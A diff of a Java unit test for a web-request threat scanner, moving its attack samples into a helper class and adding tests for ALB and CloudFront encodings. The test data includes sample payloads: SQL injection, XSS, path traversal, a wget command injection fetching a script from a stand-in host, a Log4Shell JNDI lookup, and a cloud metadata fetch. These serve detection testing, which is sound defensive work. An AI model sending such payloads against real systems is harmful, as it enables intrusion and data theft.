@@ -8,66 +8,106 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.params.provider.ValueSource;
+import org.junit.jupiter.params.provider.MethodSource;
 
 class ThreatScannerTest {
   private final ThreatScanner scanner = new ThreatScanner(ThreatScanner.DEFAULT_MIN_CONFIDENCE);
 
-  private List<ThreatHit> scan(String uri, String agent, Escaping escaping) {
-    int question = uri.indexOf('?');
-    String path = question < 0 ? uri : uri.substring(0, question);
-    Slice query = question < 0 ? new Slice() : Slice.of(uri.substring(question + 1));
-    return scanner.scan(
-        Slice.of("GET"), Slice.of(path), query, Slice.of(agent), new Slice(), escaping);
+  static List<Sample> attacks() {
+    return Sample.attacks();
   }
 
-  private List<ThreatHit> scan(String uri) {
-    return scan(uri, "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Firefox/130.0", Escaping.NONE);
+  static List<Sample> ordinary() {
+    return Sample.ordinary();
   }
 
   @ParameterizedTest
-  @CsvSource(
-      delimiter = '~',
-      value = {
-        "SQL_INJECTION ~ /shop?id=12%20union%20all%20select%20name,pw%20from%20members",
-        "SQL_INJECTION ~ /shop?id=12%27+or+%27a%27=%27a",
-        "CROSS_SITE_SCRIPTING ~ /find?q=%3Csvg/onload=prompt(7)%3E",
-        "PATH_TRAVERSAL ~ /img?f=..%2f..%2f..%2fetc%2fhostname",
-        "COMMAND_INJECTION ~ /ping?host=10.1.1.1;wget+http://a.example/x.sh",
-        "LOG4SHELL ~ /?x=$%7B$%7Blower:j%7Dndi:ldap://a.example/z%7D",
-        "TEMPLATE_INJECTION ~ /hello?name=%7B%7B3*17%7D%7D",
-        "SENSITIVE_FILE ~ /.git/config",
-        "HEADER_INJECTION ~ /go?to=/%0d%0aSet-Cookie:a=b",
-        "REMOTE_FILE_INCLUSION ~ /fetch?u=http://169.254.169.254/latest/meta-data/",
-        "XML_AND_DESERIALISATION ~ /x?d=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20e%20SYSTEM%20%22file:///x%22%3E",
-        "DIRECTORY_INJECTION ~ /login?user[$ne]=1",
-        "CODE_INJECTION ~ /p?c=%3C?php%20system('id');"
-      })
-  void attack_isFoundInItsClass(ThreatClass expected, String uri) {
-    assertThat(scan(uri)).extracting(ThreatHit::threatClass).contains(expected);
+  @MethodSource("attacks")
+  void attack_isFoundInItsClass(Sample attack) {
+    assertThat(attack.scan(scanner))
+        .extracting(ThreatHit::threatClass)
+        .contains(attack.expected().orElseThrow());
   }
 
   @ParameterizedTest
-  @ValueSource(
-      strings = {
-        "/search?q=select+your+plan",
-        "/search?q=O%27Reilly+and+sons",
-        "/search?q=27%22+monitor+with+stand",
-        "/login?redirect=https%3A%2F%2Fapp.example.com%2Fhome%3Ftab%3D2",
-        "/a?filter=%7B%22age%22%3A%7B%22min%22%3A3%7D%7D",
-        "/search?q=%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D1%81%D1%82%D0%BE%D0%BB",
-        "/p/12?utm_source=news&utm_campaign=spring_sale&gclid=Cj0KCQ--aBcD",
-        "/blog/2024/05/one-more-thing.html",
-        "/mail?to=mary@example.org&subject=Re:+order+by+phone"
-      })
-  void ordinaryRequest_hasNoHits(String uri) {
-    assertThat(scan(uri)).isEmpty();
+  @MethodSource("ordinary")
+  void ordinaryRequest_hasNoHits(Sample ordinary) {
+    assertThat(ordinary.scan(scanner)).isEmpty();
   }
 
   @Test
-  void scannerAgent_isFound() {
-    assertThat(scan("/", "sqlmap/1.8#stable (https://sqlmap.org)", Escaping.NONE))
-        .extracting(ThreatHit::threatClass)
-        .contains(ThreatClass.SCANNER);
+  void hits_comeMostConfidentFirst() {
+    List<ThreatHit> hits =
+        Sample.of(java.util.Optional.empty(), "/.git/x?id=7'+union+select+1--").scan(scanner);
+
+    assertThat(hits).hasSizeGreaterThan(1);
+    assertThat(hits).isSortedAccordingTo((a, b) -> Double.compare(b.confidence(), a.confidence()));
+  }
+
+  @Test
+  void lowerMinimum_showsMore() {
+    Sample weak = Sample.of(java.util.Optional.empty(), "/a?f=../b.png");
+
+    assertThat(weak.scan(scanner)).isEmpty();
+    assertThat(weak.scan(new ThreatScanner(0.2))).isNotEmpty();
+  }
+
+  @Test
+  void secondSightOfAnAgent_findsTheSame() {
+    Sample agent = Sample.of(java.util.Optional.empty(), "agent: nikto/2.5");
+
+    assertThat(agent.scan(scanner)).isEqualTo(agent.scan(scanner)).isNotEmpty();
+  }
+
+  @Test
+  void sameAgentInAnotherEscaping_isLookedAtAgain() {
+    Slice agent = Slice.of("a%24%7Bjndi:ldap://a.example%7D");
+    Slice none = new Slice();
+    Slice path = Slice.of("/");
+
+    List<ThreatHit> inCloudFront = scanner.scan(none, path, none, agent, none, Escaping.PERCENT);
+    List<ThreatHit> inAlb = scanner.scan(none, path, none, agent, none, Escaping.BACKSLASH_HEX);
+
+    assertThat(inCloudFront).extracting(ThreatHit::rule).contains("jndi.lookup");
+    assertThat(inAlb).extracting(ThreatHit::rule).contains("jndi.lookup");
+  }
+
+  /**
+   * The same request as an ALB writes it and as CloudFront does, which encodes percent signs again.
+   */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = ' ',
+      value = {
+        "f=..%2f..%2fetc%2fhosts f=..%252f..%252fetc%252fhosts",
+        "f=%2e%2e%2f%2e%2e%2fa f=%252e%252e%252f%252e%252e%252fa",
+        "f=%252e%252e/%252e%252e/a f=%25252e%25252e/%25252e%25252e/a",
+        "q=\\x22><svg/onload=alert(7)> q=%22%3E%3Csvg/onload=alert(7)%3E",
+        "id=7\\x22+or+\\x221\\x22=\\x221 id=7%22+or+%221%22=%221",
+        "id=7%27%20union%20select%201 id=7%2527%2520union%2520select%25201"
+      })
+  void sameAttack_isTheSameRuleInAlbAndCloudFront(String alb, String cloudFront) {
+    Slice none = new Slice();
+    Slice path = Slice.of("/");
+
+    List<ThreatHit> first =
+        scanner.scan(none, path, Slice.of(alb), none, none, Escaping.BACKSLASH_HEX);
+    List<ThreatHit> second =
+        scanner.scan(none, path, Slice.of(cloudFront), none, none, Escaping.PERCENT);
+
+    assertThat(first).isNotEmpty();
+    assertThat(second).isEqualTo(first);
+  }
+
+  @Test
+  void fragment_isBoundedAndHidesSecrets() {
+    String padding = "x".repeat(400);
+    List<ThreatHit> hits =
+        Sample.of(java.util.Optional.empty(), "/a?password=hunter2&q=%3Cscript%3E" + padding)
+            .scan(scanner);
+
+    assertThat(hits).isNotEmpty();
+    assertThat(hits).allSatisfy(hit -> assertThat(hit.fragment()).hasSizeLessThan(140));
+    assertThat(hits).allSatisfy(hit -> assertThat(hit.fragment()).doesNotContain("hunter2"));
   }
 }
